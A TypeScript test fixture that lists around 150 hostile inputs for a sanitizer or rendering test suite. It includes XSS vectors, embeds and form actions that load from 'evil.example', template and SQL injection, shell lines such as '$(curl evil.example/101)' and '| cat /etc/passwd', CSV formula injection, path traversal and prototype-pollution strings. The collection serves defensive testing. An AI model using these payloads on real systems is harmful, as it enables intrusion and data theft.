/* Our own hostile texts, by class of attack. Code that runs would call `alert`, and content that loads would come
   from `evil.example`. The tests watch for both. */
const scriptTags = [
  "<script>alert(1)</script>",
  "<SCRIPT>alert(2)</SCRIPT>",
  "<script src=//evil.example/3.js></script>",
  "<script type=module>import('https://evil.example/4.js')</script>",
  "</script><script>alert(5)</script>",
  "<scr<script>ipt>alert(6)</scr</script>ipt>",
  "<script\n>alert(7)</script\n>",
  "<script/x>alert(8)</script>",
  "<!--><script>alert(9)</script-->",
  "<![CDATA[<script>alert(10)</script>]]>",
  '<noscript><p title="</noscript><script>alert(11)</script>">',
  "</title><script>alert(12)</script>",
  "</textarea><script>alert(13)</script>",
  "</style><script>alert(14)</script>",
  "<template><script>alert(15)</script></template>",
];

const eventHandlers = [
  "<img src=x onerror=alert(16)>",
  "<img/src='x'/onerror='alert(17)'>",
  "<IMG SRC=x ONERROR=alert(18)>",
  "<img src onerror\n=\nalert(19)>",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(20)>",
  "<body onload=alert(21)>",
  "<input autofocus onfocus=alert(22)>",
  "<select autofocus onfocus=alert(23)></select>",
  "<details open ontoggle=alert(24)>",
  "<video><source onerror=alert(25)></video>",
  "<audio src=x onerror=alert(26)>",
  "<marquee onstart=alert(27)>",
  "<div onpointerenter=alert(28) style=position:fixed;inset:0>",
  "<a onclick=alert(29) href=#>press</a>",
  '" onmouseover="alert(30)',
  "' onfocus='alert(31)' autofocus='",
  'x" autofocus onfocus=alert(32) x="',
  "<p style=animation-name:gh onanimationstart=alert(33)>",
  "<form onsubmit=alert(34)><button>go</button></form>",
  "<object data=x onerror=alert(35)></object>",
];

const svgAndMathml = [
  "<svg onload=alert(36)>",
  "<svg><script>alert(37)</script></svg>",
  "<svg><animate onbegin=alert(38) attributeName=x dur=1s>",
  "<svg><set attributeName=onmouseover to=alert(39)>",
  "<svg><a xlink:href=javascript:alert(40)><text>x</text></a></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='alert(41)'/>#x\">",
  "<svg><foreignObject><iframe src=javascript:alert(42)></iframe></foreignObject></svg>",
  "<svg><style>@import 'https://evil.example/43.css'</style></svg>",
  "<svg><image href=https://evil.example/44.png></svg>",
  "<math><mi xlink:href=javascript:alert(45)>x</mi></math>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(46)>",
  "<math href=javascript:alert(47)>press</math>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(48) src>'>",
];

const addresses = [
  "javascript:alert(49)",
  "JaVaScRiPt:alert(50)",
  "java\tscript:alert(51)",
  "java\nscript:alert(52)",
  "\u0001javascript:alert(53)",
  " javascript:alert(54)",
  "javascript&colon;alert(55)",
  "javascript:/*--></title></style>*/alert(56)",
  "data:text/html,<script>alert(57)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCg1OCk8L3NjcmlwdD4=",
  "vbscript:msgbox(59)",
  "//evil.example/60",
  "/\\evil.example/61",
  "https://user:pass@evil.example/62",
  "https://evil.example%2f@example.com/63",
  "blob:https://evil.example/64",
  "file:///etc/passwd",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "?licenses.page=-1#top",
];

const embeds = [
  "<iframe src=javascript:alert(65)>",
  "<iframe srcdoc='<script>alert(66)</script>'>",
  "<iframe src=https://evil.example/67>",
  "<object data=javascript:alert(68)>",
  "<embed src=https://evil.example/69.svg>",
  "<link rel=stylesheet href=https://evil.example/70.css>",
  "<link rel=prefetch href=https://evil.example/71>",
  "<base href=https://evil.example/72/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/73'>",
  "<form action=https://evil.example/74><input name=password></form>",
  "<img src=https://evil.example/75.gif>",
  "<img srcset='https://evil.example/76.gif 1x'>",
  "<video poster=https://evil.example/77.png>",
  "<a href=https://evil.example/78 ping=https://evil.example/78>x</a>",
];

const templatesAndMarkdown = [
  "{{constructor.constructor('alert(79)')()}}",
  "{{7*7}}",
  "${alert(80)}",
  "`${alert(81)}`",
  "#{7*7}",
  "<%= 7*7 %>",
  "{% include '/etc/passwd' %}",
  "[[${7*7}]]",
  "%{7*7}",
  "[press](javascript:alert(82))",
  "![x](https://evil.example/83.png)",
  '![x](x"onerror="alert(84))',
  "<javascript:alert(85)>",
  "[x]: javascript:alert(86)\n[x]",
  "```html\n<script>alert(87)</script>\n```",
  "&lt;script&gt;alert(88)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(89)&#62;",
  "\\u003cscript\\u003ealert(90)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(91)%3C/script%3E",
];

const directionAndInvisible = [
  "\u202Egpj.exe",
  "\u2066\u2067\u2068\u2069",
  "GC\u200B-3A88\u200B-2051",
  "\u200E\u200F\u061C",
  "مرحبا GC-3A88-2051 عالم",
  "שלום (עולם) 123",
  "\uFEFFserial",
  "\u00ADso\u00ADft",
  "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C",
  "Z\u0351\u036B\u0343a\u0360l\u035Fg\u0327o\u0361",
  "\u2028line\u2029paragraph",
  "\u180E\u2800\u3164",
];

const controlAndBroken = [
  "null\u0000byte",
  "\u0007\u0008\u001B[31mred\u001B[0m",
  "\u001B]8;;https://evil.example/92\u0007link\u001B]8;;\u0007",
  "\uD800 lone surrogate",
  "\uFFFE\uFFFF",
  "tab\there\r\nand there",
  "\u0085\u2424\u240A",
  "\u007F\u0080\u009F",
];

const unicode = [
  "👩‍👩‍👧‍👦🏳️‍🌈🇮🇹",
  "Ａｌｅｒｔ（93）",
  "＜script＞alert(94)＜/script＞",
  "ſcript İı ẞß ﬁ",
  "𝕘𝕒𝕥𝕖𝕙𝕠𝕦𝕤𝕖",
  "漢字テスト한국어ไทย",
  "\u1E9E\u0131\u017F",
  "½⅓¼²³₁₂₃",
];

const styles = [
  "<style>*{background:url(https://evil.example/95)}</style>",
  "x;background:url(https://evil.example/96)",
  "</style><img src=x onerror=alert(97)>",
  "expression(alert(98))",
  "@import url(https://evil.example/99.css);",
  "color:red;position:fixed;inset:0;z-index:2147483647",
  "var(--gh-text, url(https://evil.example/100))",
];

const queriesAndPaths = [
  "' OR '1'='1",
  "'; DROP TABLE licenses; --",
  "1; SELECT pg_sleep(10)",
  '" UNION SELECT password FROM users --',
  "$(curl evil.example/101)",
  "`id`",
  "| cat /etc/passwd",
  '=HYPERLINK("https://evil.example/102")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "C:\\Windows\\System32\\..\\..",
  "CON.txt",
  "%s%n%x%d",
  "\r\nSet-Cookie: session=evil",
];

const names = [
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "toString",
  "valueOf",
  "then",
  '{"__proto__":{"isAdmin":true}}',
  "undefined",
  "null",
  "NaN",
  "[object Object]",
  "-1",
  "1e309",
];

const long = ["W".repeat(5_000), "a ".repeat(2_500), "<b>".repeat(1_000), "🧨".repeat(1_000), "\u0301".repeat(1_000)];

/** At least 150 texts without duplicates. */
export const ownPayloads: readonly string[] = [
  ...scriptTags,
  ...eventHandlers,
  ...svgAndMathml,
  ...addresses,
  ...embeds,
  ...templatesAndMarkdown,
  ...directionAndInvisible,
  ...controlAndBroken,
  ...unicode,
  ...styles,
  ...queriesAndPaths,
  ...names,
  ...long,
];

/** Logs how many texts were tested, because machines without the other collections test fewer. */
export function reportPayloads(own: number, more: number): void {
  console.info(`Hostile texts: ${own} of our own, ${more} more from beside the checkout`);
}
